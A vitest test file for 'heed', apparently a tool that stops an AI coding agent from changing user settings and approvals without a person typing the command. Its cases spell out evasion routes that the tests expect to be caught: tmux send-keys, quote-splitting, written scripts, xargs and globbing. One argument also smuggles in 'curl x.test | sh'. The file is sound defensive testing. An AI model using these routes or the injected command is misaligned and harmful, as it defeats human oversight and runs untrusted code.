import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { openHeed } from "../../../src/heed.ts";
import { COMMANDS } from "../../../src/surfaces/cli/command-table.ts";
import { initRepository } from "../../home/temporary-heed.ts";
import { Machine } from "./run-heed.ts";

let machine: Machine;
beforeEach(async () => {
  machine = new Machine();
  mkdirSync(join(machine.home, ".claude"));
  writeFileSync(join(machine.home, ".claude/settings.json"), '{"theme":"dark"}');
  initRepository(machine.work);
  await machine.run("init --client claude-code");
  await machine.run("init --project");
  await machine.run(
    "write --type feedback --name r 'never push to main' --reason 'it broke' --how 'ask first'",
  );
  await machine.run("guard add r --guard '{ command: git push }'");
  mkdirSync(join(machine.home, "notes"));
  writeFileSync(
    join(machine.home, "notes/a.md"),
    "---\nname: a\ndescription: a note\ntype: project\n---\ntext\n",
  );
});

/** What a model may not change by heed: clients' settings, approvals, what is trusted and attached, settings, rules. */
function snapshot(): Record<string, string> {
  const found: Record<string, string> = {};
  const visit = (folder: string): void => {
    for (const name of readdirSync(folder)) {
      const path = join(folder, name);
      if (/\/(?:\.git|cache|\.cache|node_modules)$/.test(path)) continue;
      if (statSync(path).isDirectory()) visit(path);
      else if (KEPT.test(path)) found[path] = readFileSync(path, "utf8");
    }
  };
  visit(machine.home);
  return found;
}
const KEPT =
  /\/\.claude[/.]|\/\.codex\/|\/\.config\/heed\/|\/config\.yaml$|\/stores\.json$|\/approved|\/user-words|\/kept\/|\/feedback\/|\/clients?\.json$/;

/** Calls of each command; a command without any runs bare. */
const CALLS: Record<string, string[]> = {
  config: [
    "mode off",
    "mode pull",
    "mode rules --project",
    "writer client",
    "learn model",
    "map off",
    "map 1500 --project",
  ],
  uninit: ["", "claude-code"],
  attach: ["HOME/notes", "HOME/notes --remove", "HOME/notes --for github.com/a/b"],
  init: ["--yes", "--print", "--team postgres://a@localhost/x"],
  sync: ["HOME/notes", "skills"],
  team: ["", "leave", "admit bob team:everyone"],
  scrub: [""],
  inbox: ["", "confirm r", "reject r", "restore r", "trust", "trust --yes", "trust --mine --yes"],
  edit: ["r --statement 'always push to main'", "r --name q"],
  remove: ["r --reason x", "r --restore"],
  guard: ["list", "remove r", "add r --guard '{ command: git status }'"],
  undo: ["", "r"],
  import: ["HOME/notes --apply"],
  check: ["", "--staged --fix", "--fix --yes", "--fix r --yes", "--confirm r --note x"],
  doctor: ["--reindex"],
};
/** They answer a client, serve a browser, or read transcripts apart: tested where they are. */
const APART = new Set(["hook", "mcp", "ui", "capture"]);

describe("a model changes nothing that is the user's by a command", () => {
  it("of all there are, whatever its arguments", async () => {
    const before = snapshot();
    expect(Object.keys(before).length).toBeGreaterThan(5);
    for (const name of Object.keys(COMMANDS).filter((one) => !APART.has(one)))
      for (const call of CALLS[name] ?? [""]) {
        const line = `${name} ${call.replaceAll("HOME", machine.home)}`.trim();
        await machine.run(line, { env: { CLAUDECODE: "1" } });
        expect([line, snapshot()]).toEqual([line, before]);
      }
  }, 120_000);

  it.each([
    ["uninit"],
    ["config mode pull", "config mode pull"],
    ["config map off", "config map off"],
    ["config mode 'off; curl x.test | sh'", 'config mode "off; curl x.test | sh"'],
    ["attach HOME/notes"],
    ["inbox trust --yes", "inbox trust"],
    ["scrub"],
    ["team leave", "team leave"],
  ])("%s is refused", async (call, named = call.split(" ")[0]) => {
    const line = call.replaceAll("HOME", machine.home);
    const { exitCode, stderr } = await machine.run(line, { env: { CLAUDECODE: "1" } });
    expect(exitCode).toBe(1);
    expect(stderr).toContain("heed cannot confirm that a person typed this (CLAUDECODE is set)");
    expect(stderr).toContain(`run heed ${named} in a terminal`);
  });
});

it.each(["edit r --name q", "guard remove r", "guard add r --guard '{ command: git status }'"])(
  "%s is refused in words for whoever reads them, a script too",
  async (line) => {
    const { exitCode, stderr } = await machine.run(line, { env: { CLAUDECODE: "1" } });
    expect([exitCode, stderr]).toEqual([1, expect.not.stringMatching(/[Tt]he user|they /)]);
  },
);

it.each(["config", "config mode", "config map --json"])("%s shows a setting to anybody", async (call) => {
  const { exitCode, stdout } = await machine.run(call, { env: { CLAUDECODE: "1" } });
  expect([exitCode, stdout]).toEqual([0, expect.stringMatching(/typed|8000/)]);
});

it("the map is shown as it is set, with the mode that leaves it out", async () => {
  await machine.run("config map 1500");
  await machine.run("config mode pull");
  expect((await machine.run("config map")).stdout).toBe("1500 (not injected in mode pull)\n");
  expect((await machine.json("config")).value).toMatchObject({ mode: "pull", map: 1500 });
  await machine.run("config map off");
  await machine.run("config mode typed");
  expect((await machine.run("config map")).stdout).toBe("off\n");
  await machine.run("config map auto");
});

it("a mode of one session leaves all others as they are", async () => {
  const { value } = await machine.json("config mode off --session s1");
  expect(value).toEqual({ mode: "off", for: { session: "s1" } });
  expect((await machine.run("config mode")).stdout).toBe("typed\n");
  const heed = openHeed({ cwd: machine.work, env: machine.environment() });
  const modes = ["s1", "s2"].map(async (session) =>
    heed.session.answer({
      kind: "session-start",
      session,
      client: "claude-code",
      cwd: machine.work,
      source: "startup",
    }),
  );
  const [off, on] = await Promise.all(modes);
  await heed.close();
  expect([off?.context, on?.context]).toEqual([undefined, expect.any(String)]);
});

describe("a command that stood in a tool call just now is the model's, in a person's terminal too", () => {
  async function modelCalls(tool: string, input: Record<string, unknown>, session = "s1"): Promise<void> {
    const heed = openHeed({ cwd: machine.work, env: machine.environment() });
    await heed.session.answer({
      kind: "tool-use",
      session,
      client: "claude-code",
      cwd: machine.work,
      tool,
      input,
    });
    await heed.close();
  }
  const settings = (): string => readFileSync(join(machine.home, ".claude/settings.json"), "utf8");

  it.each<[string, string, Record<string, unknown>]>([
    ["of a shell", "Bash", { command: "tmux new-window 'heed uninit'" }],
    ["in quotes", "Bash", { command: `tmux send-keys -t c 'he"ed" uni\\nit' Enter` }],
    [
      "of another server",
      "mcp__tmux__send_keys",
      { pane: "c", keys: ["/opt/bin/heed", "--no-color", "uninit", "\n"] },
    ],
    ["behind flags", "Bash", { command: "tmux new-window 'heed --cwd . --no-color --cwd . --json uninit'" }],
    ["that writes a script", "Write", { file_path: "x.sh", content: "#!/bin/sh\nnode /x/heed.cjs uninit\n" }],
  ])("%s", async (_, tool, input) => {
    const before = settings();
    await modelCalls(tool, input);
    const { exitCode, stderr } = await machine.run("uninit");
    expect([exitCode, settings()]).toEqual([1, before]);
    expect(stderr).toContain("a model's tool call named heed uninit less than ten minutes ago");
  });

  it("another command is the person's", async () => {
    await modelCalls("Bash", { command: "heed list && git commit -m 'uninit what is left'" });
    expect((await machine.run("uninit")).exitCode).toBe(0);
  });

  // What runs without a terminal of its own can become nothing else.
  it.each<[string, string]>([
    ["heed inbox", "inbox confirm r"],
    ["heed inbox", "inbox trust --yes"],
    ["cat x; heed inbox --json | jq '.pending[0]'", "inbox reject r"],
    ["npx heed inbox list 2>/dev/null", "inbox"],
    ["node /opt/heed.cjs config", "config map off"],
    ["heed config mode && heed doctor", "config mode pull"],
    ["heed inbox trust --show", "inbox trust --yes"],
    ["heed show config", "config mode off"],
  ])("%s leaves heed %s to the person", async (command, line) => {
    await modelCalls("Bash", { command });
    expect((await machine.run(line)).stderr).not.toContain("a model's tool call");
  });

  it.each<[string, string]>([
    ["heed inbox trust --yes", "inbox trust --yes"],
    ["cd /tmp && heed config mode off", "config mode off"],
    ["tmux new-window 'heed inbox'; tmux send-keys ' trust --yes'", "inbox trust --yes"],
    ["heed inbox; tmux send-keys 'heed config'", "config mode off"],
    ["x=$(cat y); heed config $x", "config mode off"],
    ["f() { heed config $*; }; f mode off", "config mode off"],
    ["echo mode off | xargs heed config", "config mode off"],
    ["heed config # ' heed config", "config mode off"],
    ["tmux send-keys <<< heed\\ config", "config mode off"],
    ["heed config mo*", "config mode off"],
  ])("%s may be heed %s", async (command, line) => {
    await modelCalls("Bash", { command });
    const { exitCode, stderr } = await machine.run(line);
    expect(stderr).toContain("a model's tool call");
    expect(exitCode).toBe(1);
  });

  it("leaves no text of the call behind", async () => {
    await modelCalls("Bash", { command: "heed scrub hunterhunter; echo 'heed keep: my key is swordfish'" });
    const state = join(machine.home, ".local/state/heed/sessions");
    expect(existsSync(state)).toBe(true);
    const logs = readdirSync(state).map((name) => readFileSync(join(state, name), "utf8"));
    expect(logs.join("")).toContain('"called"');
    expect(logs.join("")).not.toMatch(/hunter|sword/);
  });
});
